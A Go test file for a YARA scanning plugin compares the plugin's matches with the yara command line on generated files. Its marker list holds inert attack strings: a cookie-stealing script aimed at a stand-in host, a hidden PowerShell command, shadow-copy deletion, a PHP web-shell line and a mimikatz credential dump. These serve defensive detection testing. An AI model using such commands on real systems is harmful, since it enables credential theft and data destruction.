package yara

import (
	"bufio"
	"bytes"
	"fmt"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/stoq-go/stoq/core/v3/stoqtest"
)

// benchMarkers are the marker strings of the benchmark corpus
// (shared/bench/make_corpus.py) plus a few more, so that every kind of rule
// in testdata/bench.yar fires: plain, nocase, wide and hex strings, regexes,
// conditions on the MZ header.
var benchMarkers = [][]byte{
	[]byte("http://malicious.example.com/payload.bin"),
	[]byte("powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"),
	[]byte("cmd.exe /c vssadmin delete shadows /all /quiet"),
	[]byte("CreateRemoteThread\x00VirtualAllocEx\x00WriteProcessMemory\x00"),
	[]byte(`Software\Microsoft\Windows\CurrentVersion\Run`),
	[]byte("-----BEGIN RSA PRIVATE KEY-----"),
	[]byte(`eval(base64_decode($_POST["x"]));`),
	[]byte(`<script>document.location="http://evil.example.net/?c="+document.cookie</script>`),
	[]byte("Your files have been encrypted! Send 1 BTC to 1BoatSLRHtKNngkdXEeobR76b53LETtpyT"),
	[]byte("mimikatz sekurlsa::logonpasswords"),
	[]byte("\x4d\x5a\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"),
	[]byte("stratum+tcp://pool.minexmr.com:4444"),
	[]byte("V\x00i\x00r\x00t\x00u\x00a\x00l\x00A\x00l\x00l\x00o\x00c\x00E\x00x\x00 W\x00r\x00i\x00t\x00e\x00P\x00r\x00o\x00c\x00e\x00s\x00s\x00M\x00e\x00m\x00o\x00r\x00y\x00 NtUnmapViewOfSection"),
	[]byte("MIMIKATZ gentilkiwi"),
	[]byte("\xe8\x00\x00\x00\x00\x58 junk \x64\xa1\x30\x00\x00\x00"),
	[]byte("Go build ID: \"abc\" runtime.gopanic"),
	[]byte("TVqQAAMAAAAEAAAA"),
}

// corpusFile makes a deterministic file of random bytes with n markers at
// random offsets.
func corpusFile(rng *rand.Rand, size, n int) []byte {
	data := make([]byte, size)
	for i := range data {
		data[i] = byte(rng.Uint32())
	}
	for range n {
		m := benchMarkers[rng.IntN(len(benchMarkers))]
		copy(data[rng.IntN(size-len(m)):], m)
	}
	return data
}

// cliMatch is one rule match as `yara -s -m -g -e` prints it.
type cliMatch struct {
	namespace, rule string
	tags            []string
	meta            map[string]string // value as printed: "text", 5, true
	strings         []cliString
}

type cliString struct {
	offset     uint64
	identifier string
	text       string
}

// runYaraCLI scans path with Debian's yara command line and parses its output.
func runYaraCLI(t *testing.T, rules, path string) []cliMatch {
	t.Helper()
	out, err := exec.Command("yara", "-w", "-s", "-m", "-g", "-e", rules, path).Output()
	if err != nil {
		t.Fatalf("yara %s: %v", path, err)
	}
	var matches []cliMatch
	sc := bufio.NewScanner(bytes.NewReader(out))
	sc.Buffer(make([]byte, 1<<20), 1<<20)
	for sc.Scan() {
		line := sc.Text()
		if strings.HasPrefix(line, "0x") {
			if len(matches) == 0 {
				t.Fatalf("string line before any rule: %q", line)
			}
			off, rest, ok1 := strings.Cut(line, ":")
			id, text, ok2 := strings.Cut(rest, ": ")
			offset, err := strconv.ParseUint(strings.TrimPrefix(off, "0x"), 16, 64)
			if !ok1 || !ok2 || err != nil {
				t.Fatalf("cannot parse string line %q", line)
			}
			last := &matches[len(matches)-1]
			last.strings = append(last.strings, cliString{offset, id, text})
			continue
		}
		m, err := parseCLIRuleLine(strings.TrimSuffix(line, " "+path))
		if err != nil {
			t.Fatalf("%v in %q", err, line)
		}
		matches = append(matches, m)
	}
	return matches
}

// parseCLIRuleLine parses "NAMESPACE:RULE [tag,…] [key=value,…]".
func parseCLIRuleLine(s string) (cliMatch, error) {
	head, rest, ok := strings.Cut(s, " [")
	ns, rule, ok2 := strings.Cut(head, ":")
	if !ok || !ok2 {
		return cliMatch{}, fmt.Errorf("no namespace:rule [tags]")
	}
	tags, rest, ok := strings.Cut(rest, "] [")
	if !ok || !strings.HasSuffix(rest, "]") {
		return cliMatch{}, fmt.Errorf("no [meta]")
	}
	m := cliMatch{namespace: ns, rule: rule, tags: []string{}, meta: map[string]string{}}
	if tags != "" {
		m.tags = strings.Split(tags, ",")
	}
	metaText := strings.TrimSuffix(rest, "]")
	for len(metaText) > 0 {
		key, after, ok := strings.Cut(metaText, "=")
		if !ok {
			return cliMatch{}, fmt.Errorf("meta %q has no =", metaText)
		}
		key = strings.TrimSpace(key)
		var value string
		if strings.HasPrefix(after, `"`) { // quoted, with backslash escapes
			end := 1
			for end < len(after) && after[end] != '"' {
				if after[end] == '\\' {
					end++
				}
				end++
			}
			value, metaText = after[:end+1], after[end+1:]
		} else {
			value, metaText, _ = strings.Cut(after, ",")
			metaText = "," + metaText
		}
		m.meta[key] = value
		metaText = strings.TrimPrefix(metaText, ",")
	}
	return m, nil
}

// cliMetaText renders a meta value as the yara command line prints it.
func cliMetaText(v any) string {
	switch v := v.(type) {
	case string:
		var sb strings.Builder
		sb.WriteByte('"')
		for _, c := range []byte(v) {
			switch {
			case c == '"' || c == '\\' || c == '\'':
				sb.WriteByte('\\')
				sb.WriteByte(c)
			case c == '\t':
				sb.WriteString(`\t`)
			case c == '\n':
				sb.WriteString(`\n`)
			case c >= 32 && c <= 126:
				sb.WriteByte(c)
			default:
				fmt.Fprintf(&sb, `\x%02X`, c)
			}
		}
		sb.WriteByte('"')
		return sb.String()
	default:
		return fmt.Sprint(v)
	}
}

// cliStringTexts are the two ways the yara command line prints matched data:
// text strings with non-printable bytes as \xNN, hex strings as hex bytes.
func cliStringTexts(data []byte) (text, hex string) {
	var t, h strings.Builder
	for i, c := range data {
		if c >= 32 && c <= 126 {
			t.WriteByte(c)
		} else {
			fmt.Fprintf(&t, `\x%02X`, c)
		}
		if i > 0 {
			h.WriteByte(' ')
		}
		fmt.Fprintf(&h, "%02X", c)
	}
	return t.String(), h.String()
}

// TestMatchesAgreeWithYaraCommandLine scans generated files with the
// benchmark rules both with the plugin and with Debian's yara command line,
// and compares every rule, tag, meta value and string match.
func TestMatchesAgreeWithYaraCommandLine(t *testing.T) {
	stoqtest.Command(t, "yara", "yara")
	rules, err := filepath.Abs(filepath.Join("testdata", "bench.yar"))
	if err != nil {
		t.Fatal(err)
	}
	p := newPlugin(t, map[string]string{"worker_rules": rules})
	rng := rand.New(rand.NewPCG(0x5709, 1))
	dir := t.TempDir()
	files := map[string][]byte{
		"pe.bin":    append(minimalPE(), corpusFile(rng, 8192, 2)...),
		"upx.bin":   append(minimalPE(), []byte("UPX0 UPX1 UPX!")...),
		"ole.bin":   append([]byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), []byte("AutoOpen Workbook_Open")...),
		"empty.bin": {},
		"all.bin":   bytes.Join(benchMarkers, []byte(" ")),
	}
	for i := range 12 {
		files[fmt.Sprintf("r%02d.bin", i)] = corpusFile(rng, 4096<<(i%6), 1+i%4)
	}
	rulesSeen := map[string]bool{}
	for name, content := range files {
		path := filepath.Join(dir, name)
		if err := os.WriteFile(path, content, 0o600); err != nil {
			t.Fatal(err)
		}
		want := runYaraCLI(t, rules, path)
		got := stoqtest.Scan(t, p, content).Results.(Results).Matches
		if len(got) != len(want) {
			t.Errorf("%s: plugin matched %d rules, yara %d:\n%v\n%v", name, len(got), len(want), ruleNames(got), want)
			continue
		}
		for i, g := range got {
			w := want[i]
			rulesSeen[g.Rule] = true
			if g.Rule != w.rule || g.Namespace != w.namespace || strings.Join(g.Tags, ",") != strings.Join(w.tags, ",") {
				t.Errorf("%s: match %d is %s:%s %v, yara says %s:%s %v", name, i, g.Namespace, g.Rule, g.Tags, w.namespace, w.rule, w.tags)
				continue
			}
			if len(g.Meta) != len(w.meta) {
				t.Errorf("%s %s: meta %v, yara %v", name, g.Rule, g.Meta, w.meta)
			}
			for k, v := range g.Meta {
				if cliMetaText(v) != w.meta[k] {
					t.Errorf("%s %s: meta %s = %s, yara %s", name, g.Rule, k, cliMetaText(v), w.meta[k])
				}
			}
			if len(g.Strings) != len(w.strings) {
				t.Errorf("%s %s: %d strings, yara %d", name, g.Rule, len(g.Strings), len(w.strings))
				continue
			}
			for j, gs := range g.Strings {
				ws := w.strings[j]
				text, hex := cliStringTexts(gs.Data)
				if gs.Offset != ws.offset || gs.Identifier != ws.identifier || (text != ws.text && hex != ws.text) {
					t.Errorf("%s %s: string %d is %d %s %q, yara %d %s %q", name, g.Rule, j, gs.Offset, gs.Identifier, text, ws.offset, ws.identifier, ws.text)
				}
			}
		}
	}
	// the comparison is only worth something if most rules took part
	if len(rulesSeen) < 15 {
		t.Errorf("only %d rules matched anywhere (%v): the generated files should exercise more", len(rulesSeen), rulesSeen)
	}
}

func ruleNames(ms []Match) []string {
	var out []string
	for _, m := range ms {
		out = append(out, m.Rule)
	}
	return out
}
